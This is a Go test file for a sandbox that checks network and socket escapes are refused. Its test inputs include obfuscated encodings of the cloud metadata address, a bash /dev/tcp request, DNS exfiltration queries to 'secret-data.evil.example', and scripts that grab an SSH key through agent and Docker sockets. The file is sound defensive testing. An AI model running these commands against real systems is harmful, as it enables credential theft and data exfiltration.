package sandbox

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// internetVariable says that a test runs where every address there is answers.
const internetVariable = "SESAME_TEST_INTERNET"

// inInternet runs a test again in a network in which all addresses of both kinds are this machine's, and tells whether this is the second time.
func inInternet(t *testing.T) bool {
	t.Helper()
	if !again(t, internetVariable, unix.CLONE_NEWUSER|unix.CLONE_NEWNET) {
		return false
	}
	for _, args := range []string{"link set lo up", "route add local 0.0.0.0/0 dev lo", "-6 route add local ::/0 dev lo", "address add 11.22.33.44/32 dev lo", "-6 address add 2001:db8::1/128 dev lo"} {
		if out, err := exec.CommandContext(t.Context(), "ip", strings.Fields(args)...).CombinedOutput(); err != nil {
			t.Fatalf("ip %s: %v\n%s", args, err, out)
		}
	}
	return true
}

// internet is all that can be reached in it: web servers, name servers that know every name, and what answers datagrams.
type internet struct {
	mu    sync.Mutex
	asked []string // of the name servers
}

// oneHost is where every name of such an internet leads.
var oneHost = [4]byte{10, 0, 0, 7}

func newInternet(t *testing.T) *internet {
	t.Helper()
	n := &internet{}
	web, err := net.Listen("tcp", "[::]:80")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { web.Close() })
	go func() {
		_ = http.Serve(web, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "SERVED") }))
	}()
	n.datagrams(t, "[::]:443", func([]byte) []byte { return []byte("SERVED") })
	n.datagrams(t, "[::]:53", n.answer)
	return n
}

// datagrams answers on all addresses. To clients that look from where, it answers from the one that was asked.
func (n *internet) datagrams(t *testing.T, at string, answer func([]byte) []byte) {
	t.Helper()
	conn, err := net.ListenPacket("udp", at)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	udp := conn.(*net.UDPConn)
	raw, err := udp.SyscallConn()
	if err != nil {
		t.Fatal(err)
	}
	if err := raw.Control(func(fd uintptr) {
		err = unix.SetsockoptInt(int(fd), unix.IPPROTO_IPV6, unix.IPV6_RECVPKTINFO, 1)
	}); err != nil {
		t.Fatal(err)
	}
	go func() {
		buf, oob := make([]byte, 2000), make([]byte, 200)
		for {
			size, more, _, from, err := udp.ReadMsgUDPAddrPort(buf, oob)
			if err != nil {
				return
			}
			_, _, _ = udp.WriteMsgUDPAddrPort(answer(buf[:size]), oob[:more], from)
		}
	}()
}

// answer notes a question, and knows every name.
func (n *internet) answer(question []byte) []byte {
	var m dnsmessage.Message
	if m.Unpack(question) != nil || len(m.Questions) == 0 {
		return []byte("?")
	}
	n.mu.Lock()
	n.asked = append(n.asked, m.Questions[0].Name.String())
	n.mu.Unlock()
	reply := dnsmessage.Message{Header: dnsmessage.Header{ID: m.ID, Response: true}, Questions: m.Questions[:1]}
	head := dnsmessage.ResourceHeader{Name: m.Questions[0].Name, Class: dnsmessage.ClassINET}
	switch m.Questions[0].Type {
	case dnsmessage.TypeA, dnsmessage.TypeALL:
		reply.Answers = []dnsmessage.Resource{{Header: head, Body: &dnsmessage.AResource{A: oneHost}}}
	case dnsmessage.TypeTXT:
		reply.Answers = []dnsmessage.Resource{{Header: head, Body: &dnsmessage.TXTResource{TXT: []string{"SERVED"}}}}
	}
	packed, err := reply.Pack()
	if err != nil {
		return []byte("?")
	}
	return packed
}

// since are the questions that came since the last time.
func (n *internet) since() []string {
	n.mu.Lock()
	defer n.mu.Unlock()
	asked := n.asked
	n.asked = nil
	return asked
}

// What every cloud has at an address of its own, in all the ways to write that; private networks; addresses of both kinds; and datagrams.
func TestAddressesThatAnswerOutside(t *testing.T) {
	if !inInternet(t) {
		return
	}
	newInternet(t)
	h := newHost(t)
	h.allow("allowed.example", "*.wild.example")
	get := func(host string) string {
		return `curl -sS -m 5 --noproxy '*' 'http://` + host + `/' | grep SERVED && echo GOT`
	}
	var attacks []attack
	for _, address := range []string{
		// The metadata service: as it is, decimal, hex, octal, mixed, and as IPv6.
		"169.254.169.254", "2852039166", "0xa9fea9fe", "025177524776", "0251.0376.0251.0376", "0xa9.0xfe.0xa9.0xfe", "169.254.43518", "169.16689662",
		"[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]", "[64:ff9b:1::a9fe:a9fe]", "[2002:a9fe:a9fe::]", "[fd00:ec2::254]", "100.100.100.200", "168.63.129.16",
		// Other people's networks, and one's own.
		"10.0.0.7", "172.16.0.1", "192.168.0.1", "100.64.0.1", "0.0.0.0", "198.18.0.9", "11.22.33.44", "[fe80::1%25lo]", "[fc00::1]", "[::]",
		// The public internet.
		"192.0.2.1", "8.8.8.8", "[2001:db8::1]", "[2606:4700::1111]", "[64:ff9b::808:808]",
	} {
		attacks = append(attacks, attack{address, get(address), true})
	}
	send := func(family, to string) string {
		return python(`import socket as k; s = k.socket(k.` + family + `, k.SOCK_DGRAM); s.settimeout(1); s.sendto(b"\xc0hello", ("` + to + `", 443)); print("GOT" if s.recv(9) == b"SERVED" else "no")`)
	}
	attacks = append(
		attacks,
		attack{"bash's own TCP", `exec 3<>/dev/tcp/192.0.2.1/80 && printf 'GET / HTTP/1.0\r\n\r\n' >&3 && grep SERVED <&3 && echo GOT`, true},
		attack{"QUIC", send("AF_INET", "192.0.2.1"), true},
		attack{"QUIC over IPv6", send("AF_INET6", "2001:db8::1"), true},
		attack{"QUIC to the metadata service", send("AF_INET6", "::ffff:169.254.169.254"), true},
		attack{"a name that is not allowed", get("other.example"), true},
		attack{"an allowed name that leads into a private network", get("allowed.example"), true},
		attack{"the same by a wildcard", get("x.wild.example"), true},
		attack{"names that only look allowed", `for n in evilallowed.example allowed.example.evil.example x.allowed.example wild.example wild.example.evil.example; do getent ahosts "$n" && echo GOT; done`, true},
	)
	h.refuse(attacks)
	for _, to := range []string{"allowed.example", "x.wild.example"} {
		r := h.run("/bin/bash", "-c", get(to))
		if len(r.denials) != 1 || !strings.Contains(r.denials[0].Reason, "private") {
			t.Errorf("%s: denials %+v", to, r.denials)
		}
	}
}

// question asks a name server of one's choice; %s is a name, %d the kind of question, and extra what stands behind it.
const question = `
import socket, struct, sys
def ask(name, kind, extra=b"", count=0):
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, count) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1) + extra
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(q, ("8.8.8.8", 53))
    try: return s.recv(2000)
    except OSError: return b""
edns = b"\0" + struct.pack(">HHIH", 41, 4096, 0, 4 + 6) + struct.pack(">HH", 65001, 6) + b"SECRET"
`

// A question is a message to whoever has the name's servers, and an answer is one from them. None gets out, and none comes in.
func TestQuestionsStayInside(t *testing.T) {
	if !inInternet(t) {
		return
	}
	n := newInternet(t)
	h := newHost(t)
	h.allow("allowed.example", "*.wild.example")
	for _, c := range []struct{ name, script string }{
		{"data in labels", `ask("secret-data.evil.example", 1)`},
		{"a text record", `ask("evil.example", 16)`},
		{"a text record of an allowed name", `ask("allowed.example", 16)`},
		{"all records", `ask("evil.example", 255)`},
		{"all records of an allowed name", `ask("allowed.example", 255)`},
		{"data behind the question", `ask("allowed.example", 1, edns, 1)`},
		{"data in labels that look allowed", `ask("secret-data.wild.example", 1)`},
		{"IPv6 addresses", `ask("evil.example", 28)`},
		{"mail servers", `ask("evil.example", 15)`},
	} {
		t.Run(c.name, func(t *testing.T) {
			code := question + `a = ` + c.script + `; print("GOT" if b"SERVED" in a or bytes([10, 0, 0, 7]) in a else "no", len(a) > 0)`
			h := &host{t: t, policy: h.policy, env: h.env}
			n.since()
			if out := h.sh(python(code)); strings.Contains(out, "GOT") {
				t.Errorf("an answer came in: %s", out)
			}
			if got := n.since(); len(got) > 0 {
				t.Errorf("a question got out: %q", got)
			}
			h.policy.Tier = Off
			if h.sh(python(code)); len(n.since()) == 0 {
				t.Error("outside, too, no question gets out")
			}
		})
	}
	// By the resolver of the system, who asks for several things at once.
	h.run("/bin/bash", "-c", `getent ahosts secret-data.evil.example; getent hosts secret-data.wild.example; getent ahostsv6 allowed.example; exit 0`)
	if got := n.since(); len(got) > 0 {
		t.Errorf("questions got out: %q", got)
	}
	// What is promised ends here: who connects has the host ask for the name. Under a wildcard somebody inside made it up.
	h.run("/bin/bash", "-c", `curl -sS -m 5 http://secret-data.wild.example/; exit 0`)
	if got := n.since(); !slices.ContainsFunc(got, func(name string) bool { return strings.HasPrefix(name, "secret-data.wild.example") }) {
		t.Errorf("said to be weaker than it is: %q", got)
	}
}

// A program of the host that hands whoever connects an open file of the user's: an agent, or Docker with its "copy".
func handingOut(t *testing.T, address, secret string) {
	t.Helper()
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: address, Net: "unix"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.AcceptUnix()
			if err != nil {
				return
			}
			if f, err := os.Open(secret); err == nil {
				_, _, _ = c.WriteMsgUnix([]byte("x"), unix.UnixRights(int(f.Fd())), nil)
				f.Close()
			}
			c.Close()
		}
	}()
}

func TestAgentsDoNotAnswer(t *testing.T) {
	h := newHost(t)
	secret := h.write(".ssh/id", "SECRET")
	runtime, err := os.MkdirTemp("/tmp", "sesame-agent-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { removeAll(t, runtime) })
	for _, dir := range []string{".docker/run", ".gnupg"} {
		if err := os.MkdirAll(filepath.Join(h.policy.Home, dir), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	addresses := map[string]string{
		"ssh-agent in /tmp": filepath.Join(runtime, "agent.1"), "gpg-agent in the home": filepath.Join(h.policy.Home, ".gnupg/S.gpg-agent"),
		"docker in the home": filepath.Join(h.policy.Home, ".docker/run/docker.sock"), "tmux in the workspace": filepath.Join(h.policy.Workspace, "tmux"),
		"X11, abstract": fmt.Sprintf("@/tmp/.X11-unix/X%d", os.Getpid()), "D-Bus, abstract": fmt.Sprintf("@/tmp/dbus-%d", os.Getpid()),
	}
	for name, dir := range map[string]string{"docker in /run": "/run", "a database in /var/lib": "/var/lib"} {
		if unix.Access(dir, unix.W_OK) == nil { // root's
			addresses[name] = fmt.Sprintf("%s/sesame-test-%d.sock", dir, os.Getpid())
		}
	}
	var attacks []attack
	for name, address := range addresses {
		handingOut(t, address, secret)
		attacks = append(attacks, attack{name, python(`
import array, os, socket
s = socket.socket(socket.AF_UNIX); s.connect("` + strings.Replace(address, "@", `\0`, 1) + `")
data, more, _, _ = s.recvmsg(1, 99)
fds = array.array("i"); fds.frombytes(more[0][2])
print("GOT" if os.read(fds[0], 9) == b"SECRET" else "no")`), true})
	}
	h.outside = append(slices.Clone(h.env), "SSH_AUTH_SOCK="+addresses["ssh-agent in /tmp"], "DOCKER_HOST=unix://"+addresses["docker in the home"])
	attacks = append(attacks, attack{"by the names in the environment", `[ -S "$SSH_AUTH_SOCK" ] && [ -S "${DOCKER_HOST#unix://}" ] && echo GOT`, true})
	h.refuse(attacks)
}
